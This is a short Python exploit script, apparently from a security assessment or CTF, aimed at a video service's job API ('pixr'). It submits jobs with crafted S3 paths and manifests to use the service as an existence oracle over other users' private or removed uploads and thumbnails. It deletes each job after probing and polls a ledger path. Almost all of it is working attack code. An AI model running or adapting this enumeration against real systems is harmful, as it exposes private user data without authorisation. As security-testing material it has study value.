from h import *
from s3x import *
import time
# F2 via publicly visible path; upload existence oracle through manifest
up='s3://pixr/uploads/5f/5f0b5401b1268f0f7e886654369bbced1452c795fdeedffba859370d92c88d35/0000-scarf.mp4'
for m in [up,up.replace('5f0b','5f0c'),'s3://pixr/uploads/lists/9b8e9d1808cdc913679bdc0874d108d4.jsonl']:
  x=r('POST','/v1/jobs','none-ing',json={'source':'s3://pixr/mallory/','manifest':m}); print(m[-40:],x.status_code,x.json().get('detail'))
  if x.status_code==202: r('DELETE','/v1/jobs/'+x.json()['id'],'none-ing')
# thumbnails oracle over private/removed/others' ids & time codes
def ex(s):
  x=r('POST','/v1/jobs','none-ing',json={'source':s})
  if x.status_code==202: r('DELETE','/v1/jobs/'+x.json()['id'],'none-ing')
  return x.status_code
print('video dirs',{i:ex(f's3://pixr/thumbnails/{i}/') for i in (13,14,15,16,38,54,77)})
print('fence of 14',[t for t in range(15,24) if ex(f's3://pixr/thumbnails/14/{t}/')==202])
print('moments of 14 at ms',[t for t in (0,1000,3080,5200,6000) if ex(f's3://pixr/thumbnails/14/19/{t}.webp')==202])
# ledger heads over time
x=r('POST','/v1/jobs','none-ing',json={'source':'s3://pixr/ledger/heads/'}); j=x.json()['id']
for i in range(40):
  d=r('GET','/v1/jobs/'+j,'none-ing').json()
  if d['status'] not in('queued','running'): break
  time.sleep(1.5)
print(d['status'],d['error'])
